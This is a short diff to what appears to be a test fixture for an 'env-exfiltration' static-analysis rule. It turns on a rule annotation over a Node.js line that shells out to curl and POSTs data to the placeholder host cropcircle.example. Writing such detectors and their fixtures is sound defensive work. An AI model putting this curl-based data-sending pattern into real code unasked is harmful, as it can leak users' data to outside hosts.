@@ -5,7 +5,7 @@ const run = promisify(execFile);
 
 exports.upload = async (entry) => {
   const body = JSON.stringify(entry);
-  // todoruleid: env-exfiltration
+  // ruleid: env-exfiltration
   const { stdout } = await run("curl", ["-sS", "--data", body, "https://cropcircle.example/api/records"]);
   return stdout;
 };
